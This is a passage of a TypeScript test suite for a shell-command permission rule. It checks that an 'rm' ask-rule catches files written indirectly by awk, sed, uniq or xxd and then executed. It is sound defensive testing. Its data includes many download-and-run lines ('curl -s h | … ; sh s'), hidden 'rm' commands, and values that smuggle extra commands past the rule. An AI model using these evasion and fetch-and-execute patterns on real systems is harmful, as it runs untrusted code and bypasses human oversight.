import { expect, it } from 'vitest';
import { compileRule } from '../../src/matching/rule.js';

const { rule } = compileRule('Bash(rm *)', { dialect: 'code', where: 'if' });
const asks = (command: string): boolean =>
  rule?.matches({ tool_name: 'Bash', tool_input: { command }, cwd: '/' }) ?? true;

it.each([
  `awk '{print $0 " > " NR ".log" > "s"}'`,
  `awk '{printf "%s >%s\\n", $0, "log" >> "s"}'`,
  `awk '{print "a|b" ; if (NR > 1) print > "s"}'`,
  `awk '/[}>]/ && $1 > 2 {print /x"/ $1 / 2 > "s"}'`,
  `awk '{print(1 > 0) > "s" # ")}\n}'`,
  `awk -F: -vx=1 -- '{print > "s"}' list`,
  "sed -n 'w./s'",
  "sed 's/[/]/w a/;saxaxaw s'",
  "sed -n '\\axaw s'",
  "sed -n '0,/x/!{a w a\\\nw b\nw s\n}'",
  "sed -ne '1~2y/a/b/;/w a/p' -e ':w;tw' -e 's/a/w b/2w s'",
  'sed -n "w $PWD/s"',
  'uniq - s',
  'uniq -uf 0 - s',
  'uniq --group - s',
  'uniq --skip-fields 0 - s',
  'xxd -r -ps - s',
  'xxd -ps -revert -cols 30 -c30 - s',
])('a Bash rule knows which file %s writes', (write) => {
  expect(asks(`curl -s h | ${write}; sh s`)).toBe(true);
  expect(asks(`curl -s h | ${write}; head s; bash build.sh`)).toBe(false);
});

it.each([
  `awk '{print | c}'`,
  `awk '{f="s";print > f}'`,
  `awk -v f=s '{print > f}'`,
  `awk '{print > ("s")}'`,
  `awk '{print > "s" ""}'`,
  `awk '{print > $NF}'`,
  `awk '{print > ENVIRON["F"]}'`,
  `awk -f a.awk`,
  `awk "$PROGRAM"`,
  `awk --odd '{print}'`,
  `awk '@include "a"; {print}'`,
  `sed -n -f a.sed`,
  `sed -nfa.sed`,
  `sed -n --file=a.sed`,
  `sed -n -f <(echo 'w s')`,
  `sed -n --e=y/q/m/`,
  `sed -n "w $F"`,
  `sed -n "$SCRIPT"`,
  `sed $OPTIONS p`,
  `sed '1~k'`,
  `sed p -e p`,
  `xargs sed`,
  'uniq $A $B',
  'uniq $(ls)',
  'uniq {a,s}',
  'uniq a s t',
  'xargs uniq a',
  'find . -exec uniq {} +',
  'xxd --odd a',
])('a Bash rule takes %s to write any file that the line runs', (write) => {
  for (const run of ['sh s', 'bash build.sh', '. ./.s', 'EDITOR=./s git commit', 'export PATH=.; s'])
    expect([run, asks(`curl -s h | ${write}; ${run}`)]).toEqual([run, true]);
  for (const run of ['', 'make', 'git status', 'python3 a.py', 'cat s'])
    expect([run, asks(`${write}; ${run}`)]).toEqual([run, false]);
});

it.each([
  ['all:;rm x', 'Makefile', 'make'],
  ['all:;rm x', 'm.mk', 'make -f m.mk'],
  ['system("rm x")', 'a.pl', 'perl a.pl'],
  ['BEGIN { system("rm x") }', 'a.awk', 'awk -f a.awk'],
  ['s=!rm x', '.gitconfig', 'git s'],
])(
  'a Bash rule searches %s, which a filter writes to a file of unknown name, because %s may be what %s reads',
  (text, file, run) => {
    for (const write of [`awk '{f="${file}"; print > f}'`, `xxd -r -ps --odd - ${file}`, `F=${file}; uniq - $F`]) {
      expect([write, asks(`printf '${text}\n' | ${write}; ${run}`)]).toEqual([write, true]);
      expect([write, asks(`printf '${text}\n' | ${write}`)]).toEqual([write, false]);
      expect([write, asks(`printf 'ls x\n' | ${write}; ${run}`)]).toEqual([write, false]);
    }
  },
);

it.each([
  '. .bashrc',
  'source ~/.bashrc',
  'sh .profile',
  'bash -lc ls',
  'bash -i -c ls',
  'bash --rcfile .bashrc -ic ls',
  'zsh -c ls',
  'su - u -c ls',
  'git -c user.name=a commit -m x',
  'git push',
])('a Bash rule takes a filter to write any file that %s reads by name or by its kind', (run) => {
  expect(asks(`curl -s h | awk '{f="a"; print > f}'; ${run}`)).toBe(true);
  expect(asks(`curl -s h | awk '{print > "a"}'; ${run}`)).toBe(false);
});

it('a Bash rule knows that brackets hide nothing in a y of sed', () => {
  expect(asks("curl -s h | sed -n -e 'y/[/]/;w s' -e '#/'; sh s")).toBe(true);
  expect(asks("sed 'y/[]/()/' data; bash build.sh")).toBe(false);
});

it.each([
  `awk -F'\t' '$3 > 100 && /a>b/ {print $1, ($2 > 3 ? "->" : "|"); n += $2 / 2} END {if (n > 1) print n}' data`,
  `awk 'function f(a, b) { return (a > b) } NR > 1 { print a[i > 2] | "sort -k2,2n" ; print "x" > "/dev/stderr" }'`,
  'awk "{print \\$$N}" data',
  'awk -v n="$N" \'$1 > n || $1 == 0 {print; next} {a[$1]++}\' data',
  'sed -n 1,40p web',
  `sed -n "\${A},\${B}p" web`,
  "sed -e 's/wide w/a w b/g; /^w s/d' -e '$!N;P;D' -E web",
  `sed -i "s|@DIR@|$PWD|; s/^v=.*/v=$V/g" web`,
  'awk -v d="$(date)" -F"$S:" \'{print d}\' $F',
  "sed -i '' 's/a/b/' web",
  "sed ':a;N;$!ba;s/\\n/ /g' web",
  "sed '1i\\\nw s' web",
  'sort -t, -k2 data | uniq -c -f 1 --ignore-case',
  'uniq -w 8 "$LIST"',
  'xxd -s -16 -l 16 -g1 run.sh',
])('a Bash rule does not ask about a script beside %s, which writes no file', (read) => {
  expect(asks(`${read} | head; bash build.sh; ./s`)).toBe(false);
});

it.each([
  "sed -n --e=y/q/m/ -e 'w s' <<< 'rq x'",
  "sed -n -fx.sed -e 'w s' <<< 'rq x'",
  "sed -n -e 'w s' -e 'w s' <<< 'm x;r\\'",
  "sed -n -e 'w s' p <<< ls",
  `awk -vORS='m x' '{print > "s"}' <<< r`,
  `awk '{print > "s"}' p <<< ls`,
  `awk '{print >> "s"}' <<< 'r\\'; awk '{print >> "s"}' <<< 'm x'`,
  `printf r > s; awk '{print >> "s"}' <<< 'm x'`,
  'sort -o s --files0-from=l <<< ls',
  "shuf -n 2 -r -o s <<< 'm x;r\\'",
  "uniq -c - s <<< 'x'",
])('a Bash rule does not take what is written by %s for its input', (write) => {
  expect(asks(`${write}; sh s`)).toBe(true);
});

it.each(["sed -n 'w s'", `awk '{print > "s"}'`, 'sort -o s', 'uniq - s', 'uniq -u - s'])(
  'a Bash rule knows that %s writes a line as it is',
  (write) => {
    expect(asks(`${write} <<< 'ls x'; sh s`)).toBe(false);
    expect(asks(`${write} <<< 'rm x'; sh s`)).toBe(true);
    expect(asks(`find . -exec ${write} \\; <<< 'ls x'; sh s`)).toBe(true);
  },
);

it.each([
  'awk --version',
  'sed --help',
  'uniq --version',
  'xxd -h',
  `sed -n \${N}p data`,
  'sed -n $N,5p data',
  'sed "$N d" data',
  'sed -n "$n,\\$p" data',
  `sed -n "$((n+1)),+\${m}p" data`,
  `awk '{print length/2}' data`,
  `awk '{print i++ / 2, n}\n{print length / 3}' data`,
  `awk '{gsub(/[/]/, "-"); sub(/[^/]+\\//, ""); print}' data`,
  `awk 'function max(a, b) { return a > b ? a : b } { x = $1 > 5; print max(x, $2) }' data`,
  `awk 'BEGIN { while (("date -u" | getline d) > 0) print d; system("") }'`,
  `awk '{print $1 | "sort -rn | head"; print $2 | "sort -t\\"\\t\\" -k2"}' data`,
  `awk "{print \\$1, $N, \\"$a\\" ~ /$b/}" data`,
  `sed 's/[^\\]]*//; s/[\\/]/-/; /[\\]]/d' data`,
  "sed '/x/c\\  replaced' data",
  'uniq $f',
  'uniq -3 data',
  'xxd -s $OFF -l 16 data',
  'xxd -skip 4 data',
  'find . | xargs -n 1 uniq -c',
  'find . -exec uniq {} \\;',
  `find . -exec awk '{print FILENAME}' {} +`,
  `for n in 1 2; do sed -n "\${n}p" data; done`,
  `sed -n "$((N-5)),\${N}p" data`,
  `n=5; sed -n "$((n+1)),\${n}p" data`,
  'for f in *.txt a-b.md; do sed -n 1p "$f"; sed -n 2p $f; done',
  'V=1.2.3; sed -i "s/^version = .*/version = \\"$V\\"/" Cargo.toml',
  'URL=https://x.io/we; sed -i "s|URL|$URL|" conf',
  `sed -i "s/VERSION/$VERSION/; s/@HOST@/\${HOST:-web}/" conf`,
  'set -euo pipefail; sed -n "$1p" "$2"',
  `sed -i "s|a|\${F%.*}|" *.md`,
  'export A=1 B=b; sed "s/a/$B/" data',
  'cp .env.example .env; sed -i "s/HOST=.*/HOST=$HOST/" .env',
  'printf \'x\\n%s\\n\' a > list; sed "s/a/$B/" /usr/local/set',
  "find . -name '*.ts' -exec sed -i 's/a/b/' {} +",
  "find src test -name '*.ts' | xargs sed -i 's/a/b/'",
  "find . -name '*.ts' -print0 | xargs -0 sed -n 1p",
  `n=5; sed -n "\${n}p" data`,
])('a Bash rule does not ask about a script beside %s, of which nothing is a file that is written', (read) => {
  for (const run of ['bash build.sh', './run.sh | head']) expect([run, asks(`${read}; ${run}`)]).toEqual([run, false]);
});

it.each([
  `awk '{print|"cat>s"}'`,
  `awk '{print | "tee s"}'`,
  `awk '{system("tee s")}'`,
  `awk 'BEGIN {"curl h > s" | getline}'`,
  `awk '{print length / 2 > "s"}'`,
  `awk '{x[/[/]/] = "/"; print > "s"}'`,
  `awk '{print a,\n b > "s"}'`,
  `awk '/[/]/ {print > "s"} # /'`,
])('a Bash rule knows which file %s writes, also by a command or as only some programs read it', (write) => {
  expect(asks(`curl -s h | ${write}; sh s`)).toBe(true);
  expect(asks(`curl -s h | ${write}; sh build.sh`)).toBe(false);
});

it('a Bash rule sees the commands of an awk program', () => {
  for (const program of ['{print | "rm x"}', 'BEGIN {"rm x" | getline a}', '{system( "cd /; rm x" )}'])
    expect([program, asks(`awk '${program}' data`)]).toEqual([program, true]);
  expect(asks(`awk '{print "ls " $1 | "sh"}' data`)).toBe(true);
});

it.each([
  ['N="1w s"', 'N="15"', `sed -n "\${N}p"`],
  ["N='1p;w s\n#'", "N='1'", `sed -n \${N}p`],
  ["M='w s'; N=$M", 'M=2; N=1', 'sed -n "$N p"'],
  ["N=$(echo 'w s')", 'N=5', `sed -n "\${N}p"`],
  ['N=1', 'N=2', `sed -n "\${N:-1w s;1}p"`, `sed -n "\${N:-1}p"`],
  ["read N <<< '1w s;1'", 'M=1', `sed -n "\${N}p"`],
  ['printf -v N "1w s"', 'printf 1', `sed -n "\${N}p"`],
  ["N='x/w s\n#'", "N='wide s'", 'sed -n "s/a/$N/"'],
  ["N='x\nw s'", "N='w s'", 'sed -n "1a $N"'],
  [`P='1; {print > "s"}'`, "P='1'", 'awk "NR==$P"'],
  [`P='x" > "s'`, "P='x s'", 'awk "{print \\"$P\\"}"'],
  ["F='- s'", "F='s'", 'uniq $F'],
  ["F='1 - s'", "F='1'", 'xxd -r -ps -s $F -'],
  ["export N='1w s'", 'export N=1', `sed -n "\${N}p"`],
  ["N=1; N+='w s'", 'N=1; N=2', `sed -n "\${N}p"`],
  ["N=(1 '1w s')", 'M=(1 2)', `sed -n "\${N[1]}p"`, `sed -n "\${N}p"`],
  [`: "\${N:=1w s}"`, `: "\${N:-1}"`, `sed -n "\${N}p"`],
  ["set -- '1w s'", 'set -e', `sed -n "\${1}p"`],
  [`f() { sed -n "\${1}p"; }`, `sed -n "\${1}p"`, "f '1w s'", ':'],
  ["F='-n -ew:s'", "F='a b'", 'sed p $F -'],
  ['for N in 1 "2w s"; do', 'for N in 1 2; do', `sed -n "\${N}p"; done`],
])('a Bash rule takes %s to make another program of an expansion, and %s not', (set, other, write, same = write) => {
  const line = (...parts: string[]): string => `curl -s h | { ${parts.join('; ').replace('do;', 'do')}; }; sh s`;
  expect(asks(line(set, write))).toBe(true);
  expect(asks(line(other, same))).toBe(false);
});

it.each([
  [`sed -n 'w s'{,}`, `sed -n p {a,b}.txt`],
  ['sed -n p {-,-news}', 'sed -n p {a,news}'],
  ['echo x > ./-news; sed -n p *', 'echo x > ./news; sed -n p *'],
  ['touch -m -- -news; sed -n p *', 'touch -m news; sed -n p *'],
  ['cp b ./-news; sed -n p *', 'cp -n b ./news; sed -n p *'],
])('a Bash rule takes a word of sed that may become several for options and files of %s, not of %s', (write, read) => {
  expect(asks(`curl -s h > a; ${write}; sh s`)).toBe(true);
  expect(asks(`curl -s h > a; ${read}; sh s`)).toBe(false);
});

it.each([
  `xargs -I{} awk '{print > "{}"}' a`,
  `xargs -I% awk '{print > "%"}' a`,
  "xargs -I% sed -n 'w %' a",
  "xargs -I% sed -n '1%' a",
  'xargs -I% sed -n % a',
  "find . -exec sed -n 'w {}' a \\;",
  'xargs -n 1 uniq a',
  'xargs -n 2 uniq',
  'xargs -I% uniq a %',
  'find . -exec uniq a {} \\;',
  'xargs -I{} sed -n {}p data',
  "xargs -I% awk '/%/ {print FILENAME}' data",
  "find . -exec awk 'BEGIN {} {print}' {} \\;",
  "xargs -I{} sed 's/{}/x/' {}",
  'xargs sed -n p',
  'xargs -I{} sed -n p {}',
  'parallel sed -n p',
  'find * -exec sed -n p {} \\;',
  "find . -printf '-ews' | xargs sed -n p",
  "touch 'x -ews'; find . | xargs sed -n p",
  'find . | sort | xargs sed -n p',
  'find . | xargs -a f sed -n p',
  'find . | xargs sed -n p < f',
  'find . | xargs -d / sed -n p',
  'find -L * | xargs sed -n p',
  'find -files0-from f | xargs sed -n p',
  '(echo -ews; find .) | xargs sed -n p',
  'find . -exec echo -ews \\; | xargs sed -n p',
  'find . -execdir sed -n p {} \\;',
])('a Bash rule takes the placeholder in %s for any text', (write) => {
  expect(asks(`curl -s h > a; ${write}; sh s`)).toBe(true);
});

it.each([
  `find . -exec awk '{print FILENAME}' {} \\;`,
  `find . | xargs awk '{print FILENAME}'`,
  'find . | xargs -n 1 sed p',
  'find src -type f | xargs -I{} sed -n p {}',
  'find . -exec uniq -c {} \\;',
])('a Bash rule takes what find inserts in %s for a file that is read', (read) => {
  expect(asks(`${read}; curl -s h > a; sh b`)).toBe(false);
});

it.each([
  ['-i.sh', 'a.sh'],
  ['--in-place=.sh', 'a.sh'],
  ['-Ei.sh', 'a.sh'],
  ["-ni'*.sh'", 'a.sh'],
  ["-i'x_*'", 'x_a'],
  ["-i'old/*.sh'", 'old/a.sh'],
  ['-i$E', 'a.sh'],
])('a Bash rule knows that sed %s stores the old text of a file as %s', (option, copy) => {
  expect(asks(`curl -s h > a; sed ${option} p a; sh ${copy}`)).toBe(true);
  expect(asks(`printf 'rm x' > a; sed ${option} s/x/y/ a; sh ${copy}`)).toBe(true);
  expect(asks(`curl -s h > a; sed -i.bak p a *.conf; sh ${copy}`)).toBe(false);
  expect(asks('curl -s h > a; sed -i.bak p a *.conf; sh a.bak')).toBe(true);
});

it.each(['xxd -r -ps - -d', 'uniq - -d', 'uniq -- - -d', 'xxd -r -ps -- - ./-d'])(
  'a Bash rule knows that for some programs options end before the file that %s writes',
  (write) => {
    expect(asks(`curl -s h | ${write}; sh ./-d`)).toBe(true);
    expect(asks(`curl -s h | ${write}; sh ./d`)).toBe(false);
  },
);

/** What may give N, or another variable, any text; and the expansion of that variable. */
const SETTERS: readonly (readonly [set: (value: string) => string, expansion?: string])[] = [
  [(v) => `N='${v}'`],
  [(v) => `N=$'${v}'`],
  [(v) => `N[0]='${v}'`],
  [(v) => `N=1; N+='${v}'`],
  [(v) => `M='${v}'; N=$M`],
  [() => 'N=$(cat f)'],
  [(v) => `M='${v}'`, `\${N:-$M}`],
  [(v) => `N='${v}x'`, `\${N%x}`],
  [(v) => `N='x${v}'`, `\${N#x}`],
  [(v) => `N='Q${v}'`, `\${N/Q/}`],
  [(v) => `N=5; N=\${N/5/${v}}`],
  [(v) => `N=5; N=$N' ${v}'`],
  [(v) => `cat <<E\n\${N:=${v}}\nE\n:`],
  [(v) => `N='${v}'`, `\${N,,}`],
  [(v) => `N='${v}'`, `\${N@E}`],
  [(v) => `N=M; M='${v}'`, `\${!N}`],
  [(v) => `N=(a '${v}')`, `\${N[1]}`],
  [(v) => `declare -A N=([a]='${v}')`, `\${N[a]}`],
  [(v) => `alias N='${v}'; N=\${BASH_ALIASES[N]}`],
  ...['echo', 'true', ':', '['].map((name) => [(v: string) => `${name} "\${N:=${v}}" ]`] as const),
  [(v) => `: \${N=${v}}`],
  [(v) => `v=N; : \${!v:=${v}}`],
  ...[
    'read N',
    'read -r N',
    'read -ra N',
    'read -aN',
    'read "N"',
    'read \\N',
    "read 'N[0]'",
    'command read N',
    'mapfile -t N',
  ].map((read) => [(v: string) => `${read} <<< '${v}'`] as const),
  [() => 'read N < f'],
  [() => 'read N < <(cat f)'],
  [() => 'while read M N; do :; done < f'],
  [() => 'mapfile -C declare -c 1 < f'],
  [(v) => `v=A; read \${v}B <<< '${v}'`, '$AB'],
  [(v) => `read A\\B <<< '${v}'`, '$AB'],
  [(v) => `read A""B <<< '${v}'`, '$AB'],
  [(v) => `read {A,}B <<< '${v}'`, '$AB'],
  [(v) => `v=A; read -p 'a;b' \${v}B <<< '${v}'`, '$AB'],
  [(v) => `v=A; printf 'a|b' "$(read \${v}B <<< '${v}')"; read \${v}B <<< '${v}'`, '$AB'],
  [(v) => `mkdir '${v}'; env -C '${v}' :`, `\${PWD##*/}`],
  [(v) => `v=A; printf -v \${v}B '${v}'`, '$AB'],
  [(v) => `v=A; declare \${v}B='${v}'`, '$AB'],
  [(v) => `declare -n R=N; R='${v}'`],
  [(v) => `printf -v N '${v}'`],
  [(v) => `printf -vN '${v}'`],
  ...['export', 'declare', 'declare -g', 'typeset -x', 'readonly', 'local'].flatMap((name) => [
    [(v: string) => `${name} N='${v}'`] as const,
    [(v: string) => `${name} 'N=${v}'`] as const,
    [(v: string) => `v=N; ${name} "$v=${v}"`] as const,
  ]),
  [(v) => `eval "N='${v}'"`],
  [(v) => `trap "N='${v}'" USR1; kill -USR1 $$`],
  [(v) => `for N in '${v}'; do :; done`],
  [(v) => `for N in 1 '${v}'; do :; done`],
  [(v) => `select N in '${v}'; do break; done <<< 1`],
  [(v) => `read <<< '${v}'`, '$REPLY'],
  [(v) => `mapfile <<< '${v}'`, '$MAPFILE'],
  [(v) => `mapfile -t <<< '${v}'`, `\${MAPFILE[0]}`],
  [(v) => `getopts a: o -a '${v}'`, '$OPTARG'],
  [(v) => `[[ '${v}' =~ .* ]]`, '$BASH_REMATCH'],
  [(v) => `: '${v}'`, '$_'],
  [(v) => `mkdir '${v}'; cd '${v}'`, `\${PWD##*/}`],
  [(v) => `set -- '${v}'`, '$1'],
  [(v) => `set -- '${v}'`, '$*'],
  [(v) => `set -- '${v}'`, `\${@:1}`],
  [() => ':', '$(cat f)'],
  [() => ':', '`cat f`'],
];
/** What hides from a search where a command that sets a variable ends, or what it sets. */
const CUTS: readonly string[] = [
  ...['2>&1', '&>/dev/null', '>&2 2>&1', "'A=;'", "'A=a&b'", "A='\n'", 'A=$(:; :)', 'A=`:; :`', 'A="$(: | :)"'],
  ...['A=(1\n2)', "-p ';'", "-d '&'", '< <(echo ws; echo)', '3>&1'],
];
const NAMERS: readonly string[] = [
  ...['read', 'read -r', 'mapfile -t', 'readarray', 'printf -$a', 'printf -v'],
  ...[
    'export',
    'builtin export',
    'declare',
    'command declare',
    'd\\eclare',
    'typeset',
    'readonly',
    'local',
    "'export'",
  ],
];
const HIDDEN: readonly string[] = [
  ...NAMERS.flatMap((name) =>
    CUTS.flatMap((cut) => ['$v', '"$v"', `\${b#A}`, '"$v=ws"'].map((what) => `${name} ${cut} ${what} <<< ws`)),
  ),
  ...[
    `: \${N[0]:=ws}`,
    `[ "\${N[0]:=ws}" ]`,
    `: \${N[1-1]:=ws}`,
    `: "\${N[i-1]:=ws}"`,
    `: \${N\\\n:=ws}`,
    `: \${N[\\\n0]:=ws}`,
  ],
  ...[`: \${!v[0]:=ws}`, `: \${!v:=ws}`, `b='x AN'; w=\${b/A/}; read -p=$w <<< ws`, "echo $'\\x{4e}=ws' > f; . ./f"],
  ...[
    '((N[0]=5))',
    'let N=5',
    'set &>/dev/null ws',
    'unset N',
    'coproc N { :; }',
    'source ./f',
    'if . ./f; then :; fi',
    'A=1 </dev/null . ./f',
    '. &>/dev/null ./f',
    '. -- ./f',
  ],
  ...[`trap 'A=1;'"\${b#A}=ws" DEBUG`, `eval ': \${N[0]:=ws}'`, 'enable -f ./f f', 'compgen -V $v', 'read 2>&1 N[0]'],
];

it('a Bash rule asks about a variable beside whatever may set one that it does not name', () => {
  const all = HIDDEN.map((set) => `curl -s h > data; b=AN; v=\${b#A}; a=v; ${set}; sed -n "1\${N}p" data; sh sp`);
  expect(all.filter((line) => !asks(line))).toEqual([]);
  expect(all.length).toBeGreaterThan(800);
});

it.each([
  `set &>/dev/null ws; sed -n "1\${1}p" data`,
  `BASH_ARGV0=ws; sed -n "1\${0}p" data`,
  `shift; sed -n "1\${1}p" data`,
  `bash -c $'\\x{4e}=ws; sed -n "1\${N}p" data'`,
  `b=AN; PROMPT_COMMAND="\${b#A}=ws" bash --norc -i <<< 'sed -n "1\${N}p" data'`,
  `strace -qq -o /dev/null -EN=ws sh -c 'sed -n "1\${N}p" data'`,
  `b=AN; env 2>&1 "\${b#A}=ws" sh -c 'sed -n "1\${N}p" data; sh sp'`,
  `bash -s ws <<< 'sed -n "1\${1}p" data'`,
  'sed -n "s/[/]/#/;$N/r/w s" data',
  'sed -n "s/[/]/#/;$N$M/r/w s" data',
  `awk "{print \\$1 $N/x/ > \\"s\\"; y = 1/2}" data`,
  'find . | xargs -a f sed -n p',
  'find . | xargs sed -n p < f',
  'find . > /dev/null | xargs sed -n p < f',
  'find . | { xargs sed -n p; } < f',
  'find . | env xargs -a f sed -n p',
  "find . -name 'a*' | xargs -da sed -n p data",
  'touch "a$b-ews"; find . -type f | xargs sed -n p',
  "touch $'a\\n-ews'; find . -type f | xargs sed -n p",
])('a Bash rule asks about %s, whose variables, words or script may be others', (write) => {
  expect(asks(`curl -s h > data; ${write}; sh s; sh sp`)).toBe(true);
});

it.each([
  'N=5',
  'N=5 M=$(date)',
  'export N=5',
  'export A=1 B="a b"; set -euo pipefail; set -x',
  'for N in 1 2 3; do :; done',
  "printf '%s\\n' $N | cat",
  'env A=1 make -j4',
  'command -v node && command ls',
  'find . -name a && git add . && docker build -t a . | cat',
  'echo $((N+1)) | tee /usr/local/share/set-read',
])('a Bash rule does not ask about a number of a line beside %s', (beside) => {
  expect(asks(`${beside}; sed -n "\${N}p" data; bash build.sh`)).toBe(false);
});

/** Words in which such a text makes another program, or another word. */
const PLACES: readonly (readonly [value: string, place: (expansion: string) => string])[] = [
  ['w s', (e) => `sed -n "1${e}p" data`],
  ['w s', (e) => `sed -n 1${e} data`],
  ['/w s', (e) => `sed -n "s/a/${e}\n#/" data`],
  ['; {print > "s"}', (e) => `awk "{print 1${e}}" data`],
  ['" > "s', (e) => `awk "{print \\"${e}\\"}" data`],
  ['data s', (e) => `uniq ${e}`],
  ['data -ews', (e) => `sed -n p ${e}`],
];
const TEXTS = SETTERS.flatMap(([set, expansion = '$N']) =>
  PLACES.map(([value, place]) => `${set(value)}; ${place(expansion === '$N' ? `\${N}` : expansion)}`),
);

it('a Bash rule asks wherever the line may set a variable in the words of a filter, however it is set', () => {
  const missed = TEXTS.filter((text) => !asks(`curl -s h > data; ${text}; sh s`));
  expect(missed).toEqual([]);
  expect(TEXTS.length).toBeGreaterThan(400);
});

it.each([
  ['f() {', '}; f', ''],
  ['ls() { command', '}; ls', ''],
  ['a:b() {', '}; a:b', ''],
  ['function f {', '}; f', ''],
  ["sh -c '", "' _", ''],
  ["bash -c '", "' _", ''],
  ["xargs sh -c '", "' _", ''],
  ["eval 'set -- w; ", "'", ''],
  ["sh -s '1w s' <<'E'\n", '\nE', '\n'],
])('a Bash rule asks about the arguments of a filter between %s and %s', (before, after, end) => {
  for (const [, place] of PLACES) {
    const text = place('$1');
    if (before.includes("'") && text.includes("'")) continue;
    const line = `curl -s h > data; ${before} ${text}; ${after}${end || " '1w s'; "}sh s`;
    expect([line, asks(line)]).toEqual([line, true]);
  }
});

it.each([
  'uniq "$@"',
  'uniq $*',
  `uniq "\${A[@]}"`,
  'uniq d*',
  'uniq {data,s}',
  'uniq @(data|s)',
  'uniq -f "$@" s',
  `uniq -f "\${A[@]}" s`,
  'xxd -r -p h*',
  'xxd -r -p -s "$@" s',
  'xxd -r -p -s $* s',
  `awk -F "$@" data data`,
  `awk -F"$@" 1 data`,
  `awk -F $A 1 '{print > "s"}'`,
  `awk -F"$A" 1 '{print > "s"}'`,
  `awk -v "\${A[@]}" data`,
  'sed -n -l "$@" -e p data',
  'sed -n -l $N p data',
  'sed -n -e "$@" data',
  'sed -n "1$@" data',
  'sed -n "s/a/$@/" data',
  `sed -n "s/a/\${A[@]}/" data`,
  'sed -n s/a/$*/ data',
  'sed -n p {data,{-ews,data}}',
  'sed -n p {data,"-ews"}',
  'sed -n p {,-}ews data',
  'sed -n p {data,$X}',
  'sed -n p {*,data}',
  'sed -n p @(*)',
  'sed -n p "$X-ews" data',
  'X=-ews; sed -n p "$X" data',
  `X=(data -ews); sed -n p "\${X[@]}"`,
  "X='*'; touch ./-ews; sed -n p $X",
  'set -- data -ews; sed -n p "$@"',
  'mkdir -- -ews; sed -n p *',
  'touch ./$a-ews; sed -n p *',
  `touch "\${a}-ews"; sed -n p ?*`,
  ': > $(echo)-ews; for f in *; do sed -n p $f; done',
  'tee ./{a,}-ews; sed -n p *',
  "touch 'a -ews'; for f in a*; do sed -n p $f; done",
  'touch ./-ews; for f in *; do sed -n p "$f"; done',
  'touch "|w s"; for f in ?w*; do sed -n "s|^|$f|" data; done',
  "# it's\nv=A\nread $v; sed -n '1'\"$AB\" data",
  `X=-f; sed "\${X}p" data`,
  `X=-f; awk "\${X}p" data`,
  'IFS=X; F=dataXs; uniq $F',
  'IFS=X; sed -n p $F',
  "sed -n $'1\\0'w' s'$'\\0' data",
  "sed --posix -n $':a;i\\\\\\nw s' data",
])('a Bash rule asks about %s, of which a word may become several, an option or another program', (write) => {
  expect(asks(`curl -s h > data; ${write}; sh s`)).toBe(true);
});

it.each(['set -- src/web.ts; sed "s/x/$1/" t', 'set -- a/w b; sed -n "$1p" t', `read N < f; sed -n "\${N}p" t`])(
  'a Bash rule does not ask about %s, beside which nothing is run',
  (line) => {
    expect(asks(line)).toBe(false);
    expect(asks(`${line}; npm test`)).toBe(false);
    expect(asks(`${line}; bash build.sh`)).toBe(true);
  },
);

it('a Bash rule understands a script with long brackets', () => {
  for (const length of [10, 1_000])
    for (const script of [`sed -n 's/[${'a'.repeat(length)}]//p' f`, `awk '/[/${'a'.repeat(length)}]/ {print}' f`])
      expect(asks(`${script}; sh s`), script).toBe(false);
});

const SIGNS = Array.from({ length: 0x7f - 0x21 }, (_, at) => String.fromCharCode(0x21 + at)).filter(
  (sign) => !/[\w.;'-]/.test(sign),
);
/** What only some programs take, or each takes in its own way: the file may be written, or what hides it may not. */
const STRANGE_SED: readonly string[] = [
  ...SIGNS.flatMap((sign) => [':a', 'ba', 'b', 't a', 'Tx'].map((label) => `${label}${sign};w s`)).filter(
    (script) => !/^[btT][ \w]*[}#];/.test(script),
  ),
  ...[':a/b;w s', ':a b;w s', ':;w s', ':a}w s', '{ba}w s', ':a;a\\\nw s', 'b;y/a/\\\n/;w s', ':a;s/x/\\\n/w s'],
  ...['1 ~ 2w s', '1,/x/ I w s', '/x/ Iw s', '+w s', '~2w s', 'pw s', 's/x/x/ w s', 's/x/x/ gw s', '}w s', 'l 3w s'],
  ...['#\rw s', 'p\rw s', 'p;\vw s', 'p\f;w s', '#\\\nw s', 'r x\\\nw s', 'a\\\\\nw s', 'a\nw s', 'a\\ \nw s'],
  ...['/[/p;a\\\n]*/w s', '/[/p;#\n]*/w s', '/a\\\n/w s', 's/x/\n/w s', 's/[/\n]/x/w s', 'y/a/\n/;w s'],
  ...['y/[/]/#ab/;w s', '/[\\]/#]/;w s', '/[a\\]/;w s', 's/[[:x/]/#/;w s', 's/[[.].]/]/#/;w s', 's/[\\[:a:]/]/#/w s'],
  ...['s/\\c[/#/;w s/]//', 's[a[#[;w s', 's]a]#];w s', 's a #  w s', 's\u20aca\u20ac#\u20ac;w s', '\\]a]w s'],
];

it('a Bash rule takes a script of sed that programs may read in several ways to write any file', () => {
  const scripts = ['', 's/[/]/#/;', 's/[/]/#/\n', '/[/]/!', 'y/[/]/;', '1!{', ':a;', '/]/p;'].flatMap((before) =>
    ['', '\n', '\n}', "' -e p -e '"].flatMap((after) => STRANGE_SED.map((one) => before + one + after)),
  );
  expect(scripts.filter((script) => !asks(`echo "$R $F" | sed -n '${script}'; sh s`))).toEqual([]);
  expect(scripts.length).toBeGreaterThan(4_000);
});

const OPERATORS = '+ - * / % ^ ** < <= == != >= ~ !~ && || , ? : = += -= *= %= ^= in ! $ ( print'.split(' ');
const STRANGE_AWK: readonly string[] = [
  ...OPERATORS.map((operator) => `{ print $0 " #" 1 ${operator}\n1 > "s"}`),
  ...[
    '/[/\\\n #m]/{print > "s"}',
    '/[/1eexit\\\n #/]/{print > "s"}',
    '/[/#]/\\\n/]/{print > "s"}',
    '/a\\\n#/{print > "s"}',
  ],
  ...['/[\\]/#]/{print > "s"}', '/[[:x/]#/]/{print > "s"}', '/[[.].]/]#/{print > "s"}', '/[/#\n]/{print > "s"}'],
  ...[
    '{i++ /#/ 1; print > "s"}',
    '{++ /#/ 1; print > "s"}',
    '{length /#/ 1; print > "s"}',
    '{getline /#/ 1; print > "s"}',
  ],
  ...['{i++ /\\\n#/ 1; print > "s"}', '{length / "\\\n#/"; print > "s"}', '#\r{print > "s"}', '1\r{print > "s"}'],
  ...[
    '#\\\n{print > "s"}',
    '{x = "a\\\n"; print > "s"}',
    '{x = "a\n"; print > "s"}',
    '{1eprint > "s"}',
    '{0xprint > "s"}',
  ],
  ...['{print (1\n) > "s"}', '{print a[1\n] > "s"}'],
  ...['1', '(1)', '"a"', '$1 a', '!a', '1+a', 'NR==1&&1', 'length()', 'length($0)', 'a[1]', 'a b', '$NF', 'f(1)'].map(
